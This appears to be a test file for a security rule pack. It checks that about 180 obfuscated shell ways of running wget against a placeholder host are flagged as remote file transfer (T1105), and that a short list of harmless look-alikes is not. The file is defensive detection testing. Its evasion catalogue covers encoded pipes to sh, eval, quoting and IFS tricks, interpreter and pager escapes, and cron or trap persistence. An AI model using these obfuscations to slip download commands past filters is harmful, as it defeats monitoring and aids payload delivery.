import assert from "assert";
import { Buffer } from "node:buffer";
import { gzipSync } from "node:zlib";
import { loadPack } from "../../../lib/rules/pack.ts";
import { RuleSet } from "../../../lib/rules/run/rule_set.ts";

const PACK = RuleSet.compile(loadPack().rules);

/** A name, not a bare address: nothing but the program tells what is done. */
const U = "http://files.example/x";
const PLAIN = `wget ${U}`;
const BASE64 = btoa(PLAIN);
const GZIP = gzipSync(Buffer.from(PLAIN)).toString("base64");
const HEX = Buffer.from(PLAIN).toString("hex");
const ESCAPED = HEX.replace(/../g, "\\x$&");
const OCTAL = [..."wget"].map((one) => `\\${one.charCodeAt(0).toString(8)}`).join("");
const REVERSED = [...PLAIN].reverse().join("");
const ROT13 = PLAIN.replace(
  /[a-z]/g,
  (one) => String.fromCharCode((one.charCodeAt(0) - 97 + 13) % 26 + 97),
);
const BASE32 = base32(PLAIN);

function base32(text: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  const bits = [...text].map((one) => one.charCodeAt(0).toString(2).padStart(8, "0")).join("");
  const digits = (bits.match(/.{1,5}/g) ?? []).map((five) =>
    alphabet[parseInt(five.padEnd(5, "0"), 2)]
  );
  return digits.join("").padEnd(Math.ceil(digits.length / 8) * 8, "=");
}

/** Ways to have a shell run `wget`; each runs in bash where its programs are installed. */
const WAYS: readonly string[] = [
  `w'g'et ${U}`,
  `w"g"et ${U}`,
  `\\w\\g\\e\\t ${U}`,
  `"wget" ${U}`,
  `'w''get' ${U}`,
  `w$@get ${U}`,
  `w$*get ${U}`,
  `wg\${x}et ${U}`,
  `$'\\x77\\x67\\x65\\x74' ${U}`,
  `$'\\167get' ${U}`,
  `$'w\\u0067et' ${U}`,
  `{wget,${U}}`,
  `wget\${IFS}${U}`,
  `wget$IFS$9${U}`,
  `IFS=,;c=wget,${U};$c`,
  `w=wget;$w ${U}`,
  `a=w;b=get;$a$b ${U}`,
  `$(rev<<<tegw) ${U}`,
  `$(echo wget) ${U}`,
  "`echo wget` " + U,
  `$(printf wget) ${U}`,
  `$(printf '${OCTAL}') ${U}`,
  `$(echo d2dldA==|base64 -d) ${U}`,
  `$(tr a-z n-za-m <<< jtrg) ${U}`,
  `c=(wget ${U}); "\${c[@]}"`,
  `c=(wget ${U}); \${c[*]}`,
  `c=(wget x); \${c[0]} ${U}`,
  `set -- wget ${U}; "$@"`,
  `set -- wget ${U}; $1 $2`,
  `set wget ${U}; $*`,
  `read c <<< "wget ${U}"; $c`,
  `read -r a b <<< "wget ${U}"; $a $b`,
  `printf -v c %s wget; $c ${U}`,
  `printf -v c '\\x77get'; $c ${U}`,
  `for c in wget; do $c ${U}; done`,
  `for i in wg; do \${i}et ${U}; done`,
  `for c in curlx wget; do $c ${U}; done`,
  `while read l; do $l; done <<< "wget ${U}"`,
  `echo wget ${U} | while read l; do $l; done`,
  `echo ${U} | xargs wget`,
  `echo wget ${U} | xargs -I{} sh -c '{}'`,
  `xargs -n1 wget <<< ${U}`,
  `echo wget ${U} | xargs env`,
  `echo wget ${U} | sh`,
  `sh <<< "wget ${U}"`,
  `sh <<E\nwget ${U}\nE`,
  `cat <<E | sh\nwget ${U}\nE`,
  `bash -c 'wget ${U}'`,
  `bash -c "$(echo wget ${U})"`,
  `eval wget ${U}`,
  `eval "w""get ${U}"`,
  `eval $(echo wget ${U})`,
  `a='wget ${U}'; eval $a`,
  `a=wg;b=et; eval "$a$b ${U}"`,
  `eval "$(printf '%s ' wget ${U})"`,
  `source <(echo wget ${U})`,
  `. /dev/stdin <<< "wget ${U}"`,
  `bash <(echo wget ${U})`,
  `echo ${BASE64}|base64 -d|sh`,
  `sh -c "$(echo ${BASE64} | base64 -d)"`,
  `base64 -d <<< ${BASE64} | sh`,
  `echo ${GZIP} | base64 -d | gunzip | sh`,
  `echo ${GZIP} | base64 -d | zcat | bash`,
  `bash <(base64 -d <<< ${GZIP} | gzip -d)`,
  `echo ${HEX} | xxd -r -p | sh`,
  `printf '${ESCAPED}' | sh`,
  `echo -e '${ESCAPED}' | bash`,
  `$(echo -e '${ESCAPED}')`,
  `echo '${REVERSED}' | rev | sh`,
  `echo ${BASE32} | base32 -d | sh`,
  `openssl enc -d -base64 <<< ${BASE64} | sh`,
  `echo '${ROT13}' | tr a-z n-za-m | sh`,
  `echo 'xwget ${U}' | cut -c2- | sh`,
  `echo 'wgXet ${U}' | sed s/X// | sh`,
  `echo 'XXwget ${U}' | tr -d X | sh`,
  `head -1 <<< 'wget ${U}' | sh`,
  `echo '#wget ${U}' | tail -c +2 | sh`,
  `python3 -c 'import os;os.system("wget ${U}")'`,
  `perl -e 'system("wget ${U}")'`,
  `perl -e 'exec "wget","${U}"'`,
  `python3 -c 'import subprocess;subprocess.run(["wget","${U}"])'`,
  `awk 'BEGIN{system("wget ${U}")}'`,
  `awk '{system($0)}' <<< "wget ${U}"`,
  `find / -maxdepth 0 -exec wget ${U} \\;`,
  `env wget ${U}`,
  `env -S 'wget ${U}'`,
  `nohup wget ${U}`,
  `timeout 9 wget ${U}`,
  `nice wget ${U}`,
  `setsid wget ${U}`,
  `stdbuf -o0 wget ${U}`,
  `unshare -r wget ${U}`,
  `command wget ${U}`,
  `builtin command wget ${U}`,
  `exec wget ${U}`,
  `/usr/bin/wget ${U}`,
  `/usr/bin/../bin/wget ${U}`,
  `/???/???/?get ${U}`,
  `/usr/bin/w*t ${U}`,
  `/usr/bin/wge[t] ${U}`,
  `/u??/b?n/wget ${U}`,
  `\${PATH:0:1}usr\${PATH:0:1}bin\${PATH:0:1}wget ${U}`,
  `cd /usr/bin; ./wget ${U}`,
  `shopt -s expand_aliases\nalias x=wget\nx ${U}`,
  `shopt -s expand_aliases\nalias x='wget ${U}'\nx`,
  `f(){ wget $1; }; f ${U}`,
  `f(){ $1 $2; }; f wget ${U}`,
  `f(){ "$@"; }; f wget ${U}`,
  `function f { wget "$@"; }; f ${U}`,
  `f(){ local c=wget; $c ${U}; }; f`,
  `w(){ $1get ${U}; }; w w`,
  `ln -sf /usr/bin/wget /tmp/g1; /tmp/g1 ${U}`,
  `cp /usr/bin/wget /tmp/g2; /tmp/g2 ${U}`,
  `hash -p /usr/bin/wget g; g ${U}`,
  `/lib64/ld-linux-x86-64.so.2 /usr/bin/wget ${U}`,
  `PROMPT_COMMAND='wget ${U}'`,
  `trap 'wget ${U}' EXIT`,
  `trap 'wget ${U}' DEBUG; true`,
  `vim -c ':!wget ${U}' -c q`,
  `echo '!wget ${U}' | ed`,
  `ed <<< '!wget ${U}'`,
  `x=${U}; wget $x`,
  `a=http; b=192.0.2.1; wget $a://$b/x`,
  `w=wget; v=w; \${!v} ${U}`,
  `declare c=wget; $c ${U}`,
  `export C=wget; $C ${U}`,
  `x=xwgetx; \${x:1:4} ${U}`,
  `x=WGET; \${x,,} ${U}`,
  `x=w-g-e-t; \${x//-} ${U}`,
  `x=wget.exe; \${x%.exe} ${U}`,
  `x=xxwget; \${x#xx} ${U}`,
  `x=a/b/wget; \${x##*/} ${U}`,
  `declare -A m=([k]=wget); \${m[k]} ${U}`,
  `mapfile -t c <<< wget; \${c[0]} ${U}`,
  `c=(w g e t); IFS=; "\${c[*]}" ${U}`,
  `printf -v c '%s' w get; $c ${U}`,
  `$(printf %s%s w get) ${U}`,
  `(wget ${U})`,
  `if wget ${U}; then :; fi`,
  `! wget ${U}`,
  `case x in x) wget ${U};; esac`,
  `coproc wget ${U}`,
  `time wget ${U}`,
  `\${x:-wget} ${U}`,
  `: \${c:=wget}; $c ${U}`,
  `echo "wget ${U}" > /tmp/a; sh /tmp/a`,
  `echo "wget ${U}" > /tmp/a; . /tmp/a`,
  `cat > /tmp/a <<E\nwget ${U}\nE\nsh /tmp/a`,
  `printf 'wget ${U}' | tee /tmp/a; bash /tmp/a`,
  `tee /tmp/b <<< 'wget ${U}' | sh`,
  `$BASH -c 'wget ${U}'`,
  `$SHELL -c 'wget ${U}'`,
  `$(which wget) ${U}`,
  `$(command -v wget) ${U}`,
  `$(type -p wget) ${U}`,
  `sed '1e wget ${U}' /etc/hosts`,
  `make -f - <<< $'a:\\n\\twget ${U}'`,
  `tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec='wget ${U}'`,
  `script -qc 'wget ${U}' /dev/null`,
  `flock /tmp/l wget ${U}`,
  `flock /tmp/l -c 'wget ${U}'`,
  `watch -n1 'wget ${U}'`,
  `parallel wget ::: ${U}`,
  `tmux new -d 'wget ${U}'`,
  `screen -dm wget ${U}`,
  `su -c 'wget ${U}'`,
  `ssh localhost wget ${U}`,
  `php -r 'system("wget ${U}");'`,
  `ruby -e 'system "wget ${U}"'`,
  "ruby -e '`wget " + U + "`'",
  `node -e 'require("child_process").execSync("wget ${U}")'`,
  `lua -e 'os.execute("wget ${U}")'`,
  `gdb -batch -ex 'shell wget ${U}'`,
  `at now <<< 'wget ${U}'`,
  `echo '* * * * * wget ${U}' | crontab -`,
  `PAGER='wget ${U}' man ls`,
  `git -c core.pager='wget ${U}' -p status`,
  `MANPAGER='sh -c "wget ${U}"' man ls`,
];

function isSeen(text: string): boolean {
  return PACK.match("command", { command_text: text }).some(({ rule }) =>
    rule.document.emits.some(({ technique_id: technique, confidence }) =>
      technique === "T1105" && confidence >= 0.6
    )
  );
}

for (const way of WAYS) {
  Deno.test(`a transfer is seen in ${JSON.stringify(way)}`, () => assert.ok(isSeen(way)));
}

/** The same words where nothing is fetched. */
const HARMLESS: readonly string[] = [
  `echo ${PLAIN}`,
  `echo "${PLAIN}" | cat`,
  `c='${PLAIN}'; echo "$c"`,
  `set -- ${PLAIN}; echo "$@"`,
  `c=(${PLAIN}); echo "\${c[@]}"`,
  `read a <<< "${PLAIN}"; echo $a`,
  `alias x='${PLAIN}'`,
  `f(){ echo "$@"; }; f ${PLAIN}`,
  `for c in ${PLAIN}; do echo $c; done`,
  `grep '!${PLAIN}' notes`,
  `echo ${BASE64} | base64 -d`,
  `man wget ${U}`,
];

for (const text of HARMLESS) {
  Deno.test(`no transfer is seen in ${JSON.stringify(text)}`, () => assert.ok(!isSeen(text)));
}
